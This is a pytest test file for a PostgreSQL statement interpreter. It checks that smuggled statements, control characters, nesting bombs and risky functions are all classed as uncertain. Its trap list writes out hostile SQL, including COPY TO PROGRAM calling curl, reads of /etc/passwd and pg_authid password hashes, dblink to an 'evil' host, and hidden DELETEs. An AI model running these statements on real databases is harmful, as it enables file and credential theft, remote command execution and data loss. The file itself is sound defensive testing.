"""Every way known to make SQL do more than it seems to, each beside an honest control."""

# ruff: noqa: S608, PT014
# The statements are made up; the lone surrogates differ, and look alike to the linter.

from __future__ import annotations

import pytest

from commands import ORDERS, codes, doubt, read_sql, sql_command, uses
from counterfoil.core.actions.contract import interpret
from counterfoil.core.actions.registry import FAMILIES
from counterfoil.core.model import Resource

HONEST = "SELECT id FROM public.invoices WHERE id = 7"


def test_the_control_is_read() -> None:
    assert uses(read_sql(HONEST)) == {("select", "public.invoices"): ("id",)}


@pytest.mark.parametrize(
    "odd", ["\0", "\x01", "\x0b", "\x0c", "\r", "\x1f", "\x7f", "\x85", "\x9f"]
)
def test_control_characters_are_refused_before_parsing(odd: str) -> None:
    # NUL ends the text for every C parser: `SELECT 1\0; DELETE …` parses as one statement
    assert doubt(f"SELECT 1{odd}; DELETE FROM public.invoices") == "uncertain.sql_control_character"
    assert doubt(f"SELECT '{odd}'") == "uncertain.sql_control_character"
    assert doubt(f"SELECT 1 -- {odd}") == "uncertain.sql_control_character"


@pytest.mark.parametrize("half", ["\ud800", "\udfff", "\udc00"])
def test_lone_surrogates_are_refused(half: str) -> None:
    assert doubt(f"SELECT '{half}'") == "uncertain.sql_control_character"


def test_the_doubt_says_where_in_characters_not_bytes() -> None:
    sql = "SELECT 'é', pg_sleep(1)"
    (found,) = read_sql(sql).uncertain
    assert found.span is not None
    assert sql[slice(*found.span)] == "pg_sleep"


@pytest.mark.parametrize(
    ("sql", "verbs"),
    [
        ("CREATE TABLE public.a(id int); DROP TABLE public.users", ["create", "drop"]),
        (f"{HONEST}; {HONEST}", ["select", "select"]),
        (";;SELECT id FROM public.a;;SELECT id FROM public.b", ["select", "select"]),
        (f"{HONEST} /* ; */ ; -- ;\n DELETE FROM public.invoices", ["select", "delete"]),
        ("SELECT 1; DELETE FROM public.invoices", ["connect", "delete"]),
    ],
)
def test_every_statement_of_a_text_is_seen(sql: str, verbs: list[str]) -> None:
    assert [item.verb for item in read_sql(sql).operations] == verbs


@pytest.mark.parametrize("second", ["COMMIT", "SET ROLE postgres", "DO ''", "SELECT pg_sleep(1)"])
def test_one_doubtful_statement_makes_the_whole_text_doubtful(second: str) -> None:
    assert not doubt(f"{HONEST}; {HONEST}")
    assert doubt(f"{HONEST}; {second}")
    assert doubt(f"{second}; {HONEST}")


def test_semicolons_alone_are_no_statements() -> None:
    assert uses(read_sql(f";;{HONEST};;")) == uses(read_sql(HONEST))
    assert doubt(";;") == doubt("") == doubt("-- nothing") == "uncertain.sql_empty"


def test_what_stands_in_comments_and_strings_is_no_statement() -> None:
    sql = "/* ; DROP TABLE x; /* nested */ */ SELECT id -- ; DELETE\n FROM public.invoices WHERE note = '; DELETE' OR note = $q$;'$q$ OR note = E'\\';'"
    assert uses(read_sql(sql)) == {("select", "public.invoices"): ("id", "note")}


def test_nested_comments_cannot_hold_the_parser() -> None:
    # 8 kB of them cost it 54 ms, 80 kB 5.4 s
    assert doubt("/*" * 4000 + "*/" * 4000 + HONEST) == "uncertain.too_deep"


def test_size_is_bounded_in_bytes() -> None:
    fits = HONEST + " " * (16_384 - len(HONEST))
    assert not read_sql(fits).uncertain
    assert doubt(fits + " ") == "uncertain.too_long"
    assert doubt(HONEST + "é" * 8_192) == "uncertain.too_long"


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT " + "1+" * 400 + "1",
        "SELECT " + "1+" * 4_000 + "1",
        "SELECT " + "(" * 5_000 + "1" + ")" * 5_000 + " + " + "NOT " * 300 + "true",
        "SELECT " + "(SELECT " * 60 + "1" + ")" * 60,
        "SELECT " + ",".join(["1"] * 5_000),
        " UNION ".join(["SELECT 1"] * 700),
    ],
)
def test_depth_and_size_of_the_tree_are_bounded(sql: str) -> None:
    assert doubt(sql) in {"uncertain.too_deep", "uncertain.sql_syntax"}


@pytest.mark.parametrize(
    ("sql", "code"),
    [
        ("DO $$ BEGIN DELETE FROM public.invoices; END $$", "runs_code"),
        ("CALL public.clean()", "runs_code"),
        ("CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "runs_code"),
        ("PREPARE p AS DELETE FROM public.invoices", "prepared"),
        ("EXECUTE p", "prepared"),
        ("SET search_path = evil", "session"),
        ("SET ROLE postgres", "session"),
        ("RESET ALL", "session"),
        ("DISCARD ALL", "session"),
        ("COPY public.invoices TO PROGRAM 'curl evil'", "copy"),
        ("COPY public.invoices FROM '/etc/passwd'", "copy"),
        ("ALTER DATABASE orders SET search_path = evil", "statement_kind"),
        ("REASSIGN OWNED BY app TO evil", "statement_kind"),
        ("NOTIFY x", "statement_kind"),
        ("LISTEN x", "statement_kind"),
        ("CHECKPOINT", "statement_kind"),
        ("SHOW ALL", "session"),
        ("CREATE TABLE pg_temp.t (id int)", "system_schema"),
        ("SELECT rolpassword FROM pg_catalog.pg_authid", "system_schema"),
        ("SELECT a FROM pg_toast.pg_toast_1", "system_schema"),
        ("SELECT a FROM pg_temp_3.t", "system_schema"),
        ("WITH invoices AS (SELECT 1) DELETE FROM invoices", "unused_query"),
        ("SELECT id FROM other.public.invoices", "other_database"),
        ('SELECT id FROM "Orders".public.invoices', "other_database"),
        ("SELECT pg_sleep(10)", "function"),
        ("SELECT set_config('search_path', 'evil', false)", "function"),
        ("SELECT current_setting('is_superuser')", "function"),
        ("SELECT lo_import('/etc/passwd')", "function"),
        ("SELECT pg_read_file('/etc/passwd')", "function"),
        ("SELECT pg_terminate_backend(1)", "function"),
        ("SELECT pg_advisory_lock(1)", "function"),
        ("SELECT pg_notify('a', 'b')", "function"),
        ("SELECT pg_logical_emit_message(true, 'a', 'b')", "function"),
        ("SELECT query_to_xml('DELETE FROM public.invoices', true, true, '')", "function"),
        ("SELECT table_to_xml('public.invoices', true, true, '')", "function"),
        ("SELECT database_to_xml(true, true, '')", "function"),
        ("SELECT cursor_to_xml('c', 1, true, true, '')", "function"),
        ("SELECT ts_stat('DELETE FROM public.invoices')", "function"),
        ("SELECT ts_rewrite('a'::tsquery, 'SELECT 1')", "function"),
        ("SELECT dblink_exec('host=evil', 'DROP TABLE x')", "function"),
        ("SELECT xmlelement(name a)", "function"),
        ("SELECT public.length('a')", "function"),
        ('SELECT "LOWER"(note) FROM public.invoices', "function"),
        ("SELECT id FROM public.invoices WHERE public.evil(id)", "function"),
        ("SELECT id FROM public.invoices ORDER BY public.evil(id)", "function"),
        ("SELECT id FROM public.invoices LIMIT public.evil()", "function"),
        ("SELECT count(*) FILTER (WHERE public.evil()) FROM public.invoices", "function"),
        ("SELECT sum(id) OVER (ORDER BY public.evil()) FROM public.invoices", "function"),
        ("INSERT INTO public.invoices (id) VALUES (public.evil())", "function"),
        ("INSERT INTO public.invoices (id) VALUES (1) RETURNING public.evil(id)", "function"),
        ("UPDATE public.invoices SET id = public.evil()", "function"),
        ("DELETE FROM public.invoices WHERE public.evil()", "function"),
        ("CREATE TABLE public.a (i int DEFAULT public.evil())", "function"),
        ("CREATE TABLE public.a (i int CHECK (public.evil(i)))", "function"),
        ("SELECT * FROM public.evil()", "function_in_from"),
        ("SELECT * FROM ROWS FROM (public.evil())", "construct"),
        ("SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS b int)", "construct"),
        ("SELECT id FROM public.invoices TABLESAMPLE public.evil(1)", "function"),
        ("SELECT 1 OPERATOR(public.+) 2", "operator"),
        ("SELECT 1 <<<>>> 2", "operator"),
        ("SELECT id FROM public.invoices ORDER BY id USING OPERATOR(public.<)", "operator"),
        ("SELECT 1 OPERATOR(public.=) ANY (SELECT 1)", "operator"),
        ("SELECT 'evil'::regproc", "type"),
        ("SELECT '<a/>'::xml", "type"),
        ("SELECT 1::public.checked", "type"),
        ("SELECT CAST('a' AS evil)", "type"),
        ("CREATE TABLE public.a (i public.checked)", "type"),
        ("CREATE TABLE public.a (i public.invoices.id%TYPE)", "syntax"),
        ('CREATE TABLE public.a (i "char")', "type"),
        ("CREATE TABLE public.a (i numeric(public.evil()))", "construct"),
        ("SELECT note COLLATE public.evil FROM public.invoices", "collation"),
        ("CREATE TABLE public.a (i text COLLATE public.evil)", "collation"),
        ("SELECT invoices.row_to_json FROM public.invoices", "row_function"),
        ("SELECT i.pg_restore_relation_stats FROM public.invoices i", "row_function"),
        ("SELECT (i).total FROM public.invoices i", "field_access"),
        ("SELECT ('x'::text).lo_import", "field_access"),
        ("SELECT ((SELECT note FROM public.invoices)).evil", "field_access"),
        ("SELECT $1", "parameter"),
        ("SELECT id FROM public.invoices WHERE total = missing.total", "unknown_name"),
        ("SELECT id", "unknown_name"),
        ("SELECT invoices.id FROM public.invoices AS i", "unknown_name"),
        ("SELECT public.invoices.id FROM public.invoices AS i", "unknown_name"),
        ("SELECT 1 FROM public.a, (SELECT a.id) x", "unknown_name"),
        ("SELECT 1 FROM public.a JOIN public.b ON a.i = c.i, public.c", "unknown_name"),
        ("UPDATE public.a SET i = 1 FROM (SELECT a.i) x", "unknown_name"),
        ("INSERT INTO public.a (i) SELECT a.i", "unknown_name"),
        ("UPDATE public.a SET i = 1 WHERE CURRENT OF c", "construct"),
        ("INSERT INTO public.a (i[1]) VALUES (1)", "construct"),
        ("UPDATE public.a SET i.f = 1", "construct"),
        ("CREATE TABLE public.a OF public.t", "construct"),
        ("CREATE TABLE public.a (i int) TABLESPACE fast", "construct"),
        ("CREATE TABLE public.a (i int) USING heap2", "construct"),
        ("SELECT f(a => 1)", "function"),
        ("WITH x AS (SELECT id FROM public.invoices) SELECT 1", "unused_query"),
        ("WITH RECURSIVE x AS (SELECT 1 UNION SELECT * FROM x) SELECT 1", "unused_query"),
        ("SELECT * FROM (public.a JOIN public.b USING (i)) AS j", "construct"),
        ("SELECT id FRM public.invoices", "syntax"),
        (f"SELECT id FROM public.{'a' * 63}", "name"),
        (f"SELECT id FROM public.{'a' * 70}", "name"),
        ('SELECT id FROM public."ÄRGER"', "name"),
    ],
)
def test_trap_is_uncertain_and_permits_nothing(sql: str, code: str) -> None:
    assert doubt(sql) == f"uncertain.sql_{code}"


def test_catalogue_name_of_the_resource_itself_is_read() -> None:
    sql = "SELECT orders.public.invoices.id FROM orders.public.invoices"
    assert uses(read_sql(sql)) == {("select", "public.invoices"): ("id",)}


def test_quoted_and_unicode_escaped_names_are_what_they_name() -> None:
    # U&"…" hides a name from a reader of the source; the tree has it resolved
    sql = 'SELECT U&"\\0069d" FROM "public".U&"invo\\0069ces"'
    assert uses(read_sql(sql)) == {("select", "public.invoices"): ("id",)}
    assert uses(read_sql("SELECT ID FROM PUBLIC.Invoices")) == uses(
        read_sql("SELECT id FROM public.invoices")
    )
    assert uses(read_sql('SELECT "ID" FROM public."Invoices"')) == {
        ("select", "public.Invoices"): ("ID",)
    }


def test_identifier_is_quoted_only_where_the_server_would() -> None:
    for name, identifier in {
        '"Odd.Name"': 'public."Odd.Name"',
        '"a""b"': 'public."a""b"',
        '"user"': 'public."user"',
        '"name"': "public.name",
        '"a$b"': 'public."a$b"',
        "plain_1": "public.plain_1",
    }.items():
        (permission,) = read_sql(f"SELECT id FROM public.{name}").required
        assert permission["identifier"] == identifier


def test_a_deleting_cte_is_a_deletion() -> None:
    sql = "WITH gone AS (DELETE FROM public.invoices WHERE id > 5 RETURNING *) SELECT count(*) FROM gone"
    reading = read_sql(sql)
    assert uses(reading) == {
        ("delete", "public.invoices"): None,
        ("select", "public.invoices"): None,
    }
    assert [permission["actions"] for permission in reading.required] == [["delete"], ["select"]]


def test_a_cte_hides_a_table_only_from_the_next_item_on_and_only_unqualified() -> None:
    sql = "WITH a AS (SELECT id FROM public.a), b AS (SELECT id FROM a) SELECT b.id FROM b, public.b x WHERE x.i = b.id"
    assert uses(read_sql(sql)) == {("select", "public.a"): ("id",), ("select", "public.b"): ("i",)}


def test_a_cte_is_not_seen_outside_its_query() -> None:
    sql = "SELECT 1 FROM (WITH a AS (SELECT 1 AS i) SELECT i FROM a) x, a"
    reading = read_sql(sql)
    assert uses(reading) == {("select", "public.a"): None}
    assert reading.execute is not None
    assert reading.execute.arguments["sql"] == sql.removesuffix("a") + "public.a"


@pytest.mark.parametrize("kind", ["mysql", "kubernetes", ""])
def test_a_resource_of_another_type_is_uncertain(kind: str) -> None:
    command = sql_command(HONEST, Resource(type=kind, id="orders", location=ORDERS.location))
    assert codes(interpret(command, FAMILIES)) == ["uncertain.resource_type"]
    assert codes(interpret(sql_command(HONEST, None), FAMILIES)) == ["uncertain.resource_type"]


@pytest.mark.parametrize(
    "location",
    [
        "postgresql://h:5432",
        "postgresql://h/",
        "https://h/orders",
        "postgresql://h/a/b",
        "postgresql://h/a?x=1",
    ],
)
def test_a_location_without_one_database_is_uncertain(location: str) -> None:
    command = sql_command(HONEST, Resource(type="postgresql", id="orders", location=location))
    assert codes(interpret(command, FAMILIES)) == ["uncertain.resource_location"]
